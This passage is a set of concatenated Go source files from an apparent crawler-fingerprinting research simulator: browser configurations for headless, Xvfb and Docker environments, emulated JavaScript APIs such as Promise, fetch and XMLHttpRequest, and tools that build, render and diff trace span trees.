				Renderer:   "AMD TAHITI (DRM 2.50.0, 5.4.0-87-generic, LLVM 12.0.0)",
				ParamCount: webglParamCountForVersion(os, ffVersion),
			}
		case Headless:
			c.ScreenW, c.ScreenH = 1366, 768
			c.WindowX, c.WindowY = 0, 0
			c.AvailTop, c.AvailLeft = 0, 0
			c.HeadlessLanguageExtras = 43
			c.WebGL = WebGLInfo{Present: false}
		case Xvfb:
			c.ScreenW, c.ScreenH = 1366, 768
			c.WindowX, c.WindowY = 0, 0
			c.AvailTop, c.AvailLeft = 0, 0
			c.WebGL = WebGLInfo{
				Present: true, Vendor: "Mesa/X.org",
				Renderer:   "llvmpipe (LLVM 12.0.0, 256 bits)",
				ParamCount: webglParamCountForVersion(os, ffVersion),
				// 5 named parameters (vendor, renderer, version, shading
				// language, max texture) change on software GL; 13 params
				// are missing ⇒ 18 deviations (Table 2).
				MissingParams: 13,
			}
		case Docker:
			c.ScreenW, c.ScreenH = 2560, 1440
			c.WindowX, c.WindowY = 0, 0
			c.AvailTop, c.AvailLeft = 27, 72
			c.Fonts = []string{"Bitstream Vera Sans Mono"}
			c.HasTimezone = false
			c.TimezoneOffset = 0
			c.WebGL = WebGLInfo{
				Present: true, Vendor: "VMware, Inc.",
				Renderer:      "llvmpipe (LLVM 10.0.0, 256 bits)",
				ParamCount:    webglParamCountForVersion(os, ffVersion),
				ChangedParams: 22, // + 5 named parameters = 27 deviations
			}
		}
	}
	return c
}

// BaselineConfig returns a human-controlled regular Firefox on the same OS:
// same engine, no automation flag, machine-specific geometry.
func BaselineConfig(os OS, ffVersion int) Config {
	c := StandardConfig(os, Regular, ffVersion, 0)
	c.Automation = false
	c.Unbranded = false
	// Human setups use whatever geometry the user happens to have.
	c.WindowW, c.WindowH = 1295, 722
	c.WindowX, c.WindowY = 112, 76
	c.OffsetX, c.OffsetY = 0, 0
	return c
}

func userAgent(os OS, ffVersion int) string {
	platform := "X11; Ubuntu; Linux x86_64"
	if os == MacOS {
		platform = "Macintosh; Intel Mac OS X 10.15"
	}
	return fmt.Sprintf("Mozilla/5.0 (%s; rv:%d.0) Gecko/20100101 Firefox/%d.0",
		platform, ffVersion, ffVersion)
}
