package jsdom

import (
	"fmt"

	"gullible/internal/httpsim"
	"gullible/internal/minjs"
)

const (
	scriptType = httpsim.TypeScript
	imageType  = httpsim.TypeImage
	xhrType    = httpsim.TypeXHR
	beaconType = httpsim.TypeBeacon
)

// ---- Promise (host-scheduled, resolve/reject + then/catch) ----

const (
	promisePending = iota
	promiseFulfilled
	promiseRejected
)

type promiseData struct {
	state     int
	value     minjs.Value
	reactions []promiseReaction
}

type promiseReaction struct {
	onFul, onRej *minjs.Object
	next         *minjs.Object
}

func (d *DOM) newPromise() *minjs.Object {
	p := minjs.NewObject(d.promiseProto())
	p.Class = "Promise"
	p.Host = &promiseData{}
	return p
}

func (d *DOM) promiseProto() *minjs.Object {
	if p, ok := d.Protos["Promise"]; ok {
		return p
	}
	pp := minjs.NewObject(d.It.Protos.Object)
	pp.Class = "PromisePrototype"
	d.Protos["Promise"] = pp
	d.DefineMethod(pp, "then", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return d.promiseThen(this, argVal(args, 0), argVal(args, 1))
	})
	d.DefineMethod(pp, "catch", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return d.promiseThen(this, minjs.Undefined(), argVal(args, 0))
	})
	d.DefineMethod(pp, "finally", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return d.promiseThen(this, argVal(args, 0), argVal(args, 0))
	})
	return pp
}

func (d *DOM) promiseThen(this minjs.Value, onFul, onRej minjs.Value) (minjs.Value, error) {
	if !this.IsObject() {
		return minjs.Undefined(), d.It.ThrowError("TypeError", "then called on non-promise")
	}
	pd, ok := this.Obj.Host.(*promiseData)
	if !ok {
		return minjs.Undefined(), d.It.ThrowError("TypeError", "then called on non-promise")
	}
	next := d.newPromise()
	r := promiseReaction{next: next}
	if onFul.IsFunction() {
		r.onFul = onFul.Obj
	}
	if onRej.IsFunction() {
		r.onRej = onRej.Obj
	}
	pd.reactions = append(pd.reactions, r)
	if pd.state != promisePending {
		d.flushPromise(this.Obj)
	}
	return minjs.ObjectValue(next), nil
}

// settle fixes the promise state and schedules its reactions.
func (d *DOM) settle(p *minjs.Object, v minjs.Value, rejected bool) {
	pd := p.Host.(*promiseData)
	if pd.state != promisePending {
		return
	}
	// adopting another promise's state
	if !rejected && v.IsObject() {
		if inner, ok := v.Obj.Host.(*promiseData); ok {
			_ = inner
			fulfil := d.It.NewNative("", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
				d.settle(p, argVal(args, 0), false)
				return minjs.Undefined(), nil
			})
			reject := d.It.NewNative("", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
				d.settle(p, argVal(args, 0), true)
				return minjs.Undefined(), nil
			})
			d.promiseThen(v, minjs.ObjectValue(fulfil), minjs.ObjectValue(reject))
			return
		}
	}
	pd.value = v
	if rejected {
		pd.state = promiseRejected
	} else {
		pd.state = promiseFulfilled
	}
	d.flushPromise(p)
}

// flushPromise schedules all pending reactions of a settled promise on the
// host event loop.
func (d *DOM) flushPromise(p *minjs.Object) {
	pd := p.Host.(*promiseData)
	if pd.state == promisePending || len(pd.reactions) == 0 {
		return
	}
	reactions := pd.reactions
	pd.reactions = nil
	for _, r := range reactions {
		r := r
		runner := d.It.NewNative("", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
			cb := r.onFul
			if pd.state == promiseRejected {
				cb = r.onRej
			}
			if cb == nil {
				// pass through
				d.settle(r.next, pd.value, pd.state == promiseRejected)
				return minjs.Undefined(), nil
			}
			res, err := it.CallFunction(cb, minjs.Undefined(), []minjs.Value{pd.value})
			if err != nil {
				if thr, ok := err.(*minjs.Throw); ok {
					d.settle(r.next, thr.Value, true)
					return minjs.Undefined(), nil
				}
				return minjs.Undefined(), err
			}
			d.settle(r.next, res, false)
			return minjs.Undefined(), nil
		})
		d.Host.SetTimeout(runner, nil, 0)
	}
}

// Resolved returns a promise already fulfilled with v.
func (d *DOM) Resolved(v minjs.Value) *minjs.Object {
	p := d.newPromise()
	d.settle(p, v, false)
	return p
}

func (d *DOM) buildNet() {
	it := d.It
	w := d.Window

	// Promise constructor
	promiseCtor := it.NewNative("Promise", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		p := d.newPromise()
		executor := argVal(args, 0)
		if executor.IsFunction() {
			resolveFn := it.NewNative("resolve", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
				d.settle(p, argVal(args, 0), false)
				return minjs.Undefined(), nil
			})
			rejectFn := it.NewNative("reject", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
				d.settle(p, argVal(args, 0), true)
				return minjs.Undefined(), nil
			})
			if _, err := it.CallFunction(executor.Obj, minjs.Undefined(), []minjs.Value{minjs.ObjectValue(resolveFn), minjs.ObjectValue(rejectFn)}); err != nil {
				if thr, ok := err.(*minjs.Throw); ok {
					d.settle(p, thr.Value, true)
				} else {
					return minjs.Undefined(), err
				}
			}
		}
		return minjs.ObjectValue(p), nil
	})
	promiseCtor.SetNonEnum("prototype", minjs.ObjectValue(d.promiseProto()))
	promiseCtor.SetNonEnum("resolve", minjs.ObjectValue(it.NewNative("resolve", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.ObjectValue(d.Resolved(argVal(args, 0))), nil
	})))
	promiseCtor.SetNonEnum("reject", minjs.ObjectValue(it.NewNative("reject", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		p := d.newPromise()
		d.settle(p, argVal(args, 0), true)
		return minjs.ObjectValue(p), nil
	})))
	w.SetNonEnum("Promise", minjs.ObjectValue(promiseCtor))

	// fetch: resolves with a Response-like object.
	w.SetNonEnum("fetch", minjs.ObjectValue(it.NewNative("fetch", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		url := d.absURL(argStr(args, 0))
		method, reqBody := "GET", ""
		if opts := argVal(args, 1); opts.IsObject() {
			if m, _ := it.GetMember(opts, "method"); !m.IsNullish() {
				method = m.ToString()
			}
			if b, _ := it.GetMember(opts, "body"); !b.IsNullish() {
				reqBody = b.ToString()
			}
		}
		status, ctype, body, err := d.Host.Fetch(url, xhrType, method, reqBody)
		p := d.newPromise()
		if err != nil {
			d.settle(p, minjs.ObjectValue(it.NewError("TypeError", "NetworkError when attempting to fetch resource")), true)
			return minjs.ObjectValue(p), nil
		}
		resp := minjs.NewObject(it.Protos.Object)
		resp.Class = "Response"
		resp.Set("status", minjs.Int(status))
		resp.Set("ok", minjs.Boolean(status >= 200 && status < 300))
		resp.Set("url", minjs.String(url))
		headers := minjs.NewObject(it.Protos.Object)
		headers.Class = "Headers"
		d.DefineMethod(headers, "get", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
			if argStr(args, 0) == "content-type" || argStr(args, 0) == "Content-Type" {
				return minjs.String(ctype), nil
			}
			return minjs.Null(), nil
		})
		resp.Set("headers", minjs.ObjectValue(headers))
		bodyStr := body
		d.DefineMethod(resp, "text", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
			return minjs.ObjectValue(d.Resolved(minjs.String(bodyStr))), nil
		})
		d.DefineMethod(resp, "json", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
			v, err := it.RunScript("("+bodyStr+")", "json")
			if err != nil {
				p2 := d.newPromise()
				d.settle(p2, minjs.ObjectValue(it.NewError("SyntaxError", "invalid JSON")), true)
				return minjs.ObjectValue(p2), nil
			}
			return minjs.ObjectValue(d.Resolved(v)), nil
		})
		d.settle(p, minjs.ObjectValue(resp), false)
		return minjs.ObjectValue(p), nil
	})))

	// XMLHttpRequest (synchronous under the hood; onload fires async).
	xhrProto := minjs.NewObject(it.Protos.Object)
	xhrProto.Class = "XMLHttpRequestPrototype"
	d.Protos["XMLHttpRequest"] = xhrProto
	d.DefineMethod(xhrProto, "open", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		if this.IsObject() {
			this.Obj.SetNonEnum("__method", minjs.String(argStr(args, 0)))
			this.Obj.SetNonEnum("__url", minjs.String(argStr(args, 1)))
		}
		return minjs.Undefined(), nil
	})
	d.DefineMethod(xhrProto, "setRequestHeader", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.Undefined(), nil
	})
	d.DefineMethod(xhrProto, "send", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		if !this.IsObject() {
			return minjs.Undefined(), nil
		}
		m, _ := it.GetMember(this, "__method")
		u, _ := it.GetMember(this, "__url")
		status, _, body, _ := d.Host.Fetch(d.absURL(u.ToString()), xhrType, m.ToString(), argStr(args, 0))
		this.Obj.Set("status", minjs.Int(status))
		this.Obj.Set("responseText", minjs.String(body))
		this.Obj.Set("readyState", minjs.Int(4))
		if onload, _ := it.GetMember(this, "onload"); onload.IsFunction() {
			d.Host.SetTimeout(onload.Obj, nil, 0)
		}
		if onrsc, _ := it.GetMember(this, "onreadystatechange"); onrsc.IsFunction() {
			d.Host.SetTimeout(onrsc.Obj, nil, 0)
		}
		return minjs.Undefined(), nil
	})
	xhrCtor := it.NewNative("XMLHttpRequest", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		o := minjs.NewObject(xhrProto)
		o.Class = "XMLHttpRequest"
		return minjs.ObjectValue(o), nil
	})
	xhrCtor.SetNonEnum("prototype", minjs.ObjectValue(xhrProto))
	w.SetNonEnum("XMLHttpRequest", minjs.ObjectValue(xhrCtor))

	// Image constructor: tracking pixels.
	imgCtor := it.NewNative("Image", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.ObjectValue(d.NewElement("img")), nil
	})
	imgCtor.SetNonEnum("prototype", minjs.ObjectValue(d.Protos["HTMLImageElement"]))
	w.SetNonEnum("Image", minjs.ObjectValue(imgCtor))
}

func (d *DOM) buildDateIntl() {
	it := d.It
	cfg := d.Cfg
	const epochMS = 1655712000000 // 2022-06-20, the paper's measurement window

	dateProto := minjs.NewObject(it.Protos.Object)
	dateProto.Class = "DatePrototype"
	d.Protos["Date"] = dateProto
	d.DefineMethod(dateProto, "getTime", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.Number(epochMS + d.Host.Now()), nil
	})
	d.DefineMethod(dateProto, "getTimezoneOffset", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.Int(cfg.TimezoneOffset), nil
	})
	d.DefineMethod(dateProto, "getFullYear", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.Int(2022), nil
	})
	d.DefineMethod(dateProto, "toISOString", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.String(fmt.Sprintf("2022-06-20T00:00:%06.3fZ", d.Host.Now()/1000)), nil
	})
	dateCtor := it.NewNative("Date", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		o := minjs.NewObject(dateProto)
		o.Class = "Date"
		return minjs.ObjectValue(o), nil
	})
	dateCtor.SetNonEnum("prototype", minjs.ObjectValue(dateProto))
	dateCtor.SetNonEnum("now", minjs.ObjectValue(it.NewNative("now", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.Number(epochMS + d.Host.Now()), nil
	})))
	d.Window.SetNonEnum("Date", minjs.ObjectValue(dateCtor))

	// Intl.DateTimeFormat().resolvedOptions().timeZone — empty in Docker.
	intl := minjs.NewObject(it.Protos.Object)
	intl.Class = "Intl"
	dtf := it.NewNative("DateTimeFormat", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		o := minjs.NewObject(it.Protos.Object)
		o.Class = "DateTimeFormat"
		d.DefineMethod(o, "resolvedOptions", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
			opts := minjs.NewObject(it.Protos.Object)
			tz := ""
			if cfg.HasTimezone {
				tz = "Europe/Berlin"
			}
			opts.Set("timeZone", minjs.String(tz))
			opts.Set("locale", minjs.String("en-US"))
			return minjs.ObjectValue(opts), nil
		})
		return minjs.ObjectValue(o), nil
	})
	intl.SetNonEnum("DateTimeFormat", minjs.ObjectValue(dtf))
	d.Window.SetNonEnum("Intl", minjs.ObjectValue(intl))
}
