package trace

import "gullible/internal/telemetry"

// Wrapper span ids in a job trace. The crawl events are shifted past these,
// so id 1 is always the job root and the first crawl span is jobSpanCount+1.
const (
	jobSpanJob = int64(iota + 1)
	jobSpanSubmit
	jobSpanQueue
	jobSpanExecute
	jobSpanSeal
	jobSpanCount = int64(iota)
)

// Job wraps a scheduler-merged crawl trace in the daemon's job lifecycle: a
// "job" root with submit → queue → execute → seal phase children, the crawl
// spans reparented under "execute". The daemon has no virtual clock of its
// own, so submit and queue sit at t=0, execute spans the crawl's virtual
// duration, and seal sits at the crawl's end — everything stays a pure
// function of the crawl events, which keeps job traces byte-identical across
// cold runs, cache hits and drain/restart recoveries. attrs go on the job
// span (the daemon stamps the job address).
func Job(crawl []telemetry.SpanEvent, attrs ...telemetry.Label) []telemetry.SpanEvent {
	end := 0.0
	for _, ev := range crawl {
		if ev.AtMS > end {
			end = ev.AtMS
		}
	}
	out := make([]telemetry.SpanEvent, 0, len(crawl)+2*int(jobSpanCount))
	b := func(id, parent int64, name string, at float64, attrs ...telemetry.Label) {
		out = append(out, telemetry.SpanEvent{Kind: "B", Span: id, Parent: parent, Name: name, AtMS: at, Attrs: attrs})
	}
	e := func(id int64, name string, at float64, attrs ...telemetry.Label) {
		out = append(out, telemetry.SpanEvent{Kind: "E", Span: id, Name: name, AtMS: at, Attrs: attrs})
	}
	b(jobSpanJob, 0, "job", 0, attrs...)
	b(jobSpanSubmit, jobSpanJob, "submit", 0)
	e(jobSpanSubmit, "submit", 0)
	b(jobSpanQueue, jobSpanJob, "queue", 0)
	e(jobSpanQueue, "queue", 0)
	b(jobSpanExecute, jobSpanJob, "execute", 0)
	for _, ev := range crawl {
		ev.Span += jobSpanCount
		if ev.Parent != 0 {
			ev.Parent += jobSpanCount
		} else if ev.Kind == "B" {
			ev.Parent = jobSpanExecute
		}
		out = append(out, ev)
	}
	e(jobSpanExecute, "execute", end)
	b(jobSpanSeal, jobSpanJob, "seal", end)
	e(jobSpanSeal, "seal", end)
	e(jobSpanJob, "job", end)
	return out
}
