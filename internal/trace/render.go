package trace

import (
	"fmt"
	"io"
	"sort"
	"strings"
)

func fmtMS(ms float64) string {
	switch {
	case ms >= 60_000:
		return fmt.Sprintf("%.1fmin", ms/60_000)
	case ms >= 1000:
		return fmt.Sprintf("%.2fs", ms/1000)
	default:
		return fmt.Sprintf("%.1fms", ms)
	}
}

func attrString(s *Span) string {
	var parts []string
	for _, l := range s.Attrs {
		parts = append(parts, l.Key+"="+l.Value)
	}
	for _, l := range s.EndAttrs {
		parts = append(parts, l.Key+"="+l.Value)
	}
	if len(parts) == 0 {
		return ""
	}
	return " " + strings.Join(parts, " ")
}

func spanLine(s *Span) string {
	switch {
	case s.NoBegin:
		return fmt.Sprintf("%s ..%s (begin dropped)%s", s.Name, fmtMS(s.End), attrString(s))
	case s.Open:
		return fmt.Sprintf("%s %s.. (open)%s", s.Name, fmtMS(s.Start), attrString(s))
	default:
		return fmt.Sprintf("%s %s..%s (%s)%s", s.Name, fmtMS(s.Start), fmtMS(s.End), fmtMS(s.Duration()), attrString(s))
	}
}

// RenderTree writes the span forest as an indented tree, one span per line.
// maxDepth <= 0 renders everything.
func (t *Tree) RenderTree(w io.Writer, maxDepth int) {
	t.Walk(func(s *Span, depth int) {
		if maxDepth > 0 && depth >= maxDepth {
			return
		}
		fmt.Fprintf(w, "%s%s\n", strings.Repeat("  ", depth), spanLine(s))
	})
}

// RenderCriticalPath writes the critical path from the longest root, each
// step with its share of the root's duration.
func (t *Tree) RenderCriticalPath(w io.Writer) {
	path := t.CriticalPath(nil)
	if len(path) == 0 {
		fmt.Fprintln(w, "empty trace")
		return
	}
	total := path[0].Duration()
	for i, s := range path {
		share := ""
		if total > 0 {
			share = fmt.Sprintf(" %5.1f%%", 100*s.Duration()/total)
		}
		fmt.Fprintf(w, "%s%s%s\n", strings.Repeat("  ", i), spanLine(s), share)
	}
}

// RenderSlowest writes the n slowest spans named name (all names when empty).
func (t *Tree) RenderSlowest(w io.Writer, name string, n int) {
	for i, s := range t.Slowest(name, n) {
		fmt.Fprintf(w, "%2d. %s\n", i+1, spanLine(s))
	}
}

// histBounds is the 1-2.5-5 decade ladder for duration histograms, in ms.
var histBounds = []float64{
	1, 2.5, 5, 10, 25, 50, 100, 250, 500,
	1000, 2500, 5000, 10_000, 25_000, 50_000, 100_000, 250_000, 500_000,
}

// RenderHistograms writes a per-name duration histogram for every span name
// (or just name, when non-empty). Incomplete spans are counted but excluded
// from the buckets.
func (t *Tree) RenderHistograms(w io.Writer, name string) {
	byName := map[string][]*Span{}
	for _, s := range t.Spans() {
		if name != "" && s.Name != name {
			continue
		}
		byName[s.Name] = append(byName[s.Name], s)
	}
	names := make([]string, 0, len(byName))
	for n := range byName {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		spans := byName[n]
		counts := make([]int, len(histBounds)+1)
		var complete int
		var min, max, sum float64
		for _, s := range spans {
			if s.NoBegin || s.Open {
				continue
			}
			d := s.Duration()
			if complete == 0 || d < min {
				min = d
			}
			if d > max {
				max = d
			}
			sum += d
			complete++
			i := sort.SearchFloat64s(histBounds, d)
			if i < len(histBounds) && histBounds[i] == d {
				i++ // buckets are [lo, hi): a duration on a bound goes up
			}
			counts[i]++
		}
		fmt.Fprintf(w, "%s: %d spans", n, len(spans))
		if complete > 0 {
			fmt.Fprintf(w, " (min %s, mean %s, max %s)", fmtMS(min), fmtMS(sum/float64(complete)), fmtMS(max))
		}
		if truncated := len(spans) - complete; truncated > 0 {
			fmt.Fprintf(w, " [%d incomplete]", truncated)
		}
		fmt.Fprintln(w)
		peak := 0
		for _, c := range counts {
			if c > peak {
				peak = c
			}
		}
		for i, c := range counts {
			if c == 0 {
				continue
			}
			lo, hi := "0", ""
			if i > 0 {
				lo = fmtMS(histBounds[i-1])
			}
			if i < len(histBounds) {
				hi = fmtMS(histBounds[i])
			} else {
				hi = "+inf"
			}
			bar := strings.Repeat("#", 1+c*39/peak)
			fmt.Fprintf(w, "  [%8s, %8s) %s %d\n", lo, hi, bar, c)
		}
	}
}

// RenderStragglers writes the straggler-shard report.
func (t *Tree) RenderStragglers(w io.Writer, threshold float64) {
	stragglers := t.Stragglers(threshold)
	if len(stragglers) == 0 {
		fmt.Fprintln(w, "no straggler shards")
		return
	}
	for _, s := range stragglers {
		fmt.Fprintf(w, "shard %d: %s (%.2fx median %s) %s\n",
			s.Shard, fmtMS(s.DurationMS), s.Ratio, fmtMS(s.MedianMS), spanLine(s.Span))
	}
}

// RenderSummary writes trace-wide totals: event and span counts, per-name
// tallies with total duration, and the overall virtual extent.
func (t *Tree) RenderSummary(w io.Writer) {
	spans := t.Spans()
	var open, noBegin int
	byName := map[string]struct {
		count int
		total float64
	}{}
	var lo, hi float64
	first := true
	for _, s := range spans {
		if s.Open {
			open++
		}
		if s.NoBegin {
			noBegin++
		}
		agg := byName[s.Name]
		agg.count++
		agg.total += s.Duration()
		byName[s.Name] = agg
		if first || s.Start < lo {
			lo = s.Start
		}
		if first || s.End > hi {
			hi = s.End
		}
		first = false
	}
	fmt.Fprintf(w, "%d events, %d spans, %d roots, virtual extent %s\n",
		t.Events, len(spans), len(t.Roots), fmtMS(hi-lo))
	if open > 0 || noBegin > 0 {
		fmt.Fprintf(w, "incomplete: %d open, %d begin-dropped\n", open, noBegin)
	}
	names := make([]string, 0, len(byName))
	for n := range byName {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		agg := byName[n]
		fmt.Fprintf(w, "  %-14s %6d spans  %10s total\n", n, agg.count, fmtMS(agg.total))
	}
}
