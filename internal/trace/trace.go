// Package trace analyses flight-recorder span streams: it rebuilds the span
// tree from a JSON-lines event file, finds the critical path and the slowest
// spans, renders per-phase duration histograms, flags straggler shards, and
// structurally diffs two traces (a deterministic record/replay pair must diff
// empty). The scheduler produces these streams (sched.Result.Trace), the
// daemon persists them as job artifacts, and cmd/wpmtrace is the CLI face of
// this package.
package trace

import (
	"fmt"
	"sort"

	"gullible/internal/telemetry"
)

// Span is one reconstructed span: a begin event, its matching end (when
// retained), and its children in begin order.
type Span struct {
	ID     int64
	Parent int64
	Name   string
	// Start and End are virtual-clock milliseconds. A span whose begin was
	// overwritten by the flight-recorder ring has NoBegin set and Start
	// copied from its end event; a span that never ended has Open set and
	// End copied from its begin.
	Start, End float64
	// Attrs are the begin attributes, EndAttrs the end attributes.
	Attrs    []telemetry.Label
	EndAttrs []telemetry.Label
	Children []*Span
	NoBegin  bool
	Open     bool
}

// Duration is the span's virtual duration in milliseconds (0 when either
// endpoint is missing, so ring-truncated spans never dominate rankings).
func (s *Span) Duration() float64 {
	if s.NoBegin || s.Open {
		return 0
	}
	return s.End - s.Start
}

// Attr returns the value of the named begin attribute ("" when absent).
func (s *Span) Attr(key string) string {
	for _, l := range s.Attrs {
		if l.Key == key {
			return l.Value
		}
	}
	return ""
}

// Tree is a reconstructed span forest. Roots keeps first-appearance order,
// which for a scheduler-merged trace is shard order.
type Tree struct {
	Roots []*Span
	// ByID indexes every span. Events counts the raw events consumed.
	ByID   map[int64]*Span
	Events int
}

// Build reconstructs the span forest from an event stream. The stream may be
// ring-truncated: end events whose begin was overwritten become NoBegin spans
// parented at the root level, and begin events with a dropped parent become
// roots themselves.
func Build(events []telemetry.SpanEvent) *Tree {
	t := &Tree{ByID: make(map[int64]*Span)}
	t.Events = len(events)
	for _, ev := range events {
		switch ev.Kind {
		case "B":
			s := &Span{
				ID: ev.Span, Parent: ev.Parent, Name: ev.Name,
				Start: ev.AtMS, End: ev.AtMS, Attrs: ev.Attrs, Open: true,
			}
			t.ByID[ev.Span] = s
			if p := t.ByID[ev.Parent]; p != nil {
				p.Children = append(p.Children, s)
			} else {
				t.Roots = append(t.Roots, s)
			}
		case "E":
			s := t.ByID[ev.Span]
			if s == nil {
				// begin fell off the ring: keep the end so the loss is visible
				s = &Span{
					ID: ev.Span, Name: ev.Name,
					Start: ev.AtMS, NoBegin: true,
				}
				t.ByID[ev.Span] = s
				t.Roots = append(t.Roots, s)
			}
			s.End = ev.AtMS
			s.EndAttrs = ev.Attrs
			s.Open = false
		}
	}
	return t
}

// Walk visits every span depth-first in begin order.
func (t *Tree) Walk(fn func(s *Span, depth int)) {
	var walk func(s *Span, depth int)
	walk = func(s *Span, depth int) {
		fn(s, depth)
		for _, c := range s.Children {
			walk(c, depth+1)
		}
	}
	for _, r := range t.Roots {
		walk(r, 0)
	}
}

// Spans returns every span depth-first in begin order.
func (t *Tree) Spans() []*Span {
	var out []*Span
	t.Walk(func(s *Span, _ int) { out = append(out, s) })
	return out
}

// CriticalPath returns the chain of spans that determines when the given
// root finishes: starting at the root, it repeatedly descends into the child
// that ends last, so the returned path is the sequence of spans an operator
// must shorten to shorten the whole trace. Passing nil uses the
// longest-duration root of the tree.
func (t *Tree) CriticalPath(root *Span) []*Span {
	if root == nil {
		for _, r := range t.Roots {
			if root == nil || r.Duration() > root.Duration() {
				root = r
			}
		}
	}
	if root == nil {
		return nil
	}
	path := []*Span{root}
	cur := root
	for len(cur.Children) > 0 {
		next := cur.Children[0]
		for _, c := range cur.Children[1:] {
			// latest-finishing child; ties break toward the later starter so
			// sequential phases pick the final one
			if c.End > next.End || (c.End == next.End && c.Start >= next.Start) {
				next = c
			}
		}
		path = append(path, next)
		cur = next
	}
	return path
}

// Slowest returns the n longest spans named name, longest first (all names
// when name is empty). Ties break by begin order so output is deterministic.
func (t *Tree) Slowest(name string, n int) []*Span {
	var pool []*Span
	order := map[*Span]int{}
	for i, s := range t.Spans() {
		if name == "" || s.Name == name {
			pool = append(pool, s)
			order[s] = i
		}
	}
	sort.SliceStable(pool, func(i, j int) bool {
		if pool[i].Duration() != pool[j].Duration() {
			return pool[i].Duration() > pool[j].Duration()
		}
		return order[pool[i]] < order[pool[j]]
	})
	if n > 0 && len(pool) > n {
		pool = pool[:n]
	}
	return pool
}

// Names returns the distinct span names in the tree, sorted.
func (t *Tree) Names() []string {
	seen := map[string]bool{}
	for _, s := range t.Spans() {
		seen[s.Name] = true
	}
	names := make([]string, 0, len(seen))
	for n := range seen {
		names = append(names, n)
	}
	sort.Strings(names)
	return names
}

// Straggler flags one shard of a merged trace whose crawl root ran longer
// than Threshold times the median shard duration.
type Straggler struct {
	Shard      int     // position of the root in shard order
	Span       *Span   // the shard's root span
	DurationMS float64 // the shard's duration
	MedianMS   float64 // median root duration across shards
	Ratio      float64 // DurationMS / MedianMS
}

// Stragglers detects slow shards in a scheduler-merged trace: each root span
// is one shard's crawl, and a shard whose duration exceeds threshold× the
// median is a straggler. A threshold <= 1 defaults to 1.5. Fewer than two
// roots can have no stragglers.
func (t *Tree) Stragglers(threshold float64) []Straggler {
	if threshold <= 1 {
		threshold = 1.5
	}
	var roots []*Span
	for _, r := range t.Roots {
		if !r.NoBegin {
			roots = append(roots, r)
		}
	}
	if len(roots) < 2 {
		return nil
	}
	durs := make([]float64, len(roots))
	for i, r := range roots {
		durs[i] = r.Duration()
	}
	sorted := append([]float64(nil), durs...)
	sort.Float64s(sorted)
	median := sorted[len(sorted)/2]
	if len(sorted)%2 == 0 {
		median = (sorted[len(sorted)/2-1] + sorted[len(sorted)/2]) / 2
	}
	var out []Straggler
	for i, r := range roots {
		if median > 0 && durs[i] > threshold*median {
			out = append(out, Straggler{
				Shard: i, Span: r,
				DurationMS: durs[i], MedianMS: median,
				Ratio: durs[i] / median,
			})
		}
	}
	return out
}

// Delta is one structural difference between two traces.
type Delta struct {
	Index int    // event position (in whichever stream has the event)
	What  string // human-readable description
}

func (d Delta) String() string { return fmt.Sprintf("event %d: %s", d.Index, d.What) }

// Diff structurally compares two event streams. A deterministic record/replay
// pair must return nil: same events, same order, same ids, same virtual
// timestamps, same attributes. Differences are reported per event position;
// length mismatches add one trailing delta.
func Diff(a, b []telemetry.SpanEvent) []Delta {
	var out []Delta
	n := len(a)
	if len(b) < n {
		n = len(b)
	}
	for i := 0; i < n; i++ {
		if d := diffEvent(a[i], b[i]); d != "" {
			out = append(out, Delta{Index: i, What: d})
		}
	}
	if len(a) != len(b) {
		out = append(out, Delta{
			Index: n,
			What:  fmt.Sprintf("length mismatch: %d events vs %d", len(a), len(b)),
		})
	}
	return out
}

func diffEvent(x, y telemetry.SpanEvent) string {
	switch {
	case x.Kind != y.Kind:
		return fmt.Sprintf("kind %q vs %q", x.Kind, y.Kind)
	case x.Span != y.Span:
		return fmt.Sprintf("%s %s: span id %d vs %d", x.Kind, x.Name, x.Span, y.Span)
	case x.Name != y.Name:
		return fmt.Sprintf("span %d: name %q vs %q", x.Span, x.Name, y.Name)
	case x.Parent != y.Parent:
		return fmt.Sprintf("%s %s span %d: parent %d vs %d", x.Kind, x.Name, x.Span, x.Parent, y.Parent)
	case x.AtMS != y.AtMS:
		return fmt.Sprintf("%s %s span %d: ts %.3f vs %.3f", x.Kind, x.Name, x.Span, x.AtMS, y.AtMS)
	}
